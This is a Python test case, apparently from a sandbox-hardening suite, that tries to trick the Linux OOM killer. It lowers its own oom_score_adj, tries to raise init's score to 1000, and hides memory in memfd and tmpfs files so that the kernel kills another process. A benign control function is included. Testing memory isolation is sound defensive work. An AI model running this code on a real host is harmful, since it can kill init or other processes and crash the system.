"""Let the kernel kill somebody else when memory runs out.

Technique: the kernel ends the process with the highest score. The program lowers its own (oom_score_adj), tries to
    raise the init's, and keeps the memory where it is in no process's size: files of tmpfs and memfd. Every process is
    then smaller than the init; if the init goes, or a child in the program's place, the end could be told as something
    else, or go on.
Success: from outside: anything but used up memory.
Stopped by: memory_cgroup, own_uid
Held when: status memory_exceeded; limit memory; answered_within 8 s
Needs: memory_cgroup
"""
MB = 1 << 20


def attack():
    sys.stdout.flush()
    for value in ("-1000", "-500", "0"):
        try:
            with open("/proc/self/oom_score_adj", "w") as own:
                own.write(value)
            break
        except OSError:
            pass
    for name in ("oom_score_adj", "oom_adj"):
        try:
            with open(f"/proc/1/{name}", "w") as other:
                other.write("1000" if name == "oom_score_adj" else "15")
            return f"/proc/1/{name} was raised"
        except OSError:
            pass
    # What goes on is as small as a process can be: a shell that copies zeros into files.
    copying = "head -c 4194304 /dev/zero >>"
    script = f"for i in $(seq 60); do {copying} /work/a$((i % 3)) || {copying} /dev/shm/b$((i % 9)); done; exit 0"
    files = [os.memfd_create("own") for _ in range(2)]
    for file in files:
        os.set_inheritable(file, True)
        for _ in range(36):
            os.write(file, bytes(MB))
    os.execv("/bin/sh", ["sh", "-c", script])


def twin():
    """A program offers itself to be ended first, as batch jobs do, and uses what it may."""
    with open("/proc/self/oom_score_adj", "w") as own:
        own.write("1000")
    assert open("/proc/self/oom_score_adj").read() == "1000\n"
    assert len(bytearray(60 * MB)) == 60 * MB
